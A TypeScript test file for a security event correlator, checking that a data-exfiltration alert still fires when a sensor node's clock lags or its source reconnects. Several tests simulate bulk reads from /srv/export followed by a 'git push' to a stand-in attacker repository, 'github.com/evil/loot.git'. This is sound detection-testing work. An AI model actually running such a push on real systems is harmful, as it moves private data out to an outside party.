/**
 * Live mode with a node whose events arrive behind the wall clock: a backlog being caught up (a Tetragon
 * export tailed from its start after a restart, a sensor's buffer draining), or the sensor's clock running
 * slow (Falco http_output of another node pointed at this receiver). The wall clock ticks once a second as
 * the app's does; the node's own events must still decide what its state holds and when its pushes are
 * judged, as when its clock is in step.
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { brief, MiB, makeCorrelator, Scenario } from './builder.js';

/**
 * Feeds events as the live app would: each when the wall clock reads its time (or `arrivedMs`, when the
 * sensor delivered it late) + `lagMs`, with a tick every second.
 */
function live(
  events: readonly NormalizedEvent[],
  lagMs: number,
  arrivedMs = (e: NormalizedEvent) => e.timeMs,
): Alert[] {
  const { correlator } = makeCorrelator();
  const out: Alert[] = [];
  let wallMs = arrivedMs(events[0]!) + lagMs - 1000;
  out.push(...correlator.advance(wallMs));
  for (const e of events) {
    while (wallMs + 1000 <= arrivedMs(e) + lagMs) {
      wallMs += 1000;
      out.push(...correlator.advance(wallMs));
    }
    out.push(...correlator.ingest([e]));
  }
  for (let i = 0; i < 120; i++) {
    wallMs += 1000;
    out.push(...correlator.advance(wallMs));
  }
  return [...out, ...correlator.flush()];
}

const HIGH = [{ rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' }];

describe('a node behind the wall clock (live)', () => {
  it('keeps the reads of a push two minutes later, with the node 35 minutes behind', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/export', 80, MiB, 100);
    s.wait(120_000);
    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
    for (const lagMs of [0, 5 * 60_000, 35 * 60_000, 3 * 3_600_000]) {
      expect(brief(live(s.events, lagMs)), `${lagMs / 60_000} min behind`).toEqual(HIGH);
    }
  });

  it("waits out the lateness on the node's clock: reads delivered 20 s after the push still count", () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
    const pushMs = s.now;
    // The sensor delivered the reads late (within latenessMs): they happened before the push.
    s.wait(20_000);
    for (let i = 0; i < 80; i++) s.read(sh, `/srv/export/${i}`, MiB, { at: pushMs - 60_000 + i * 100 });
    const arrived = (e: NormalizedEvent) => (e.kind === 'file' ? pushMs + 20_000 : e.timeMs);
    for (const lagMs of [0, 5 * 60_000]) {
      expect(brief(live(s.events, lagMs, arrived)), `${lagMs / 60_000} min behind`).toEqual(HIGH);
    }
  });
});

describe('a node behind the wall clock whose source reconnects (live)', () => {
  // Found by review: the source's `disconnected` marker is stamped with the daemon's clock, not the sensor's
  // (the export file tailed from its start went missing a moment as Tetragon rotated it). It moved the
  // node's clock to the wall clock, 35 minutes past its events: its reads expired at the next pass and the
  // push was low, and the loss, 35 minutes after them on the node's time, marked none of its alerts.
  it("takes the marker on the node's time: the reads before it still count, and the alert is degraded", () => {
    const lagMs = 35 * 60_000;
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/export', 80, MiB, 100);
    s.wait(30_000);
    const downMs = s.now;
    s.wait(5_000);
    // Stamped with the wall clock when the source came back: the node's time + its lag.
    s.events.push({
      kind: 'gap',
      time: new Date(s.now + lagMs).toISOString(),
      timeMs: s.now + lagMs,
      source: 'tetragon',
      node: 'node-a',
      gap: { dropped: 0, reason: 'disconnected', fromMs: downMs + lagMs },
    });
    s.wait(90_000);
    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
    const arrived = (e: NormalizedEvent) => (e.kind === 'gap' ? e.timeMs - lagMs : e.timeMs);
    const alerts = live(s.events, lagMs, arrived);
    expect(brief(alerts)).toEqual(HIGH);
    expect(alerts[0]!.degraded).toBe(true);
  });
});
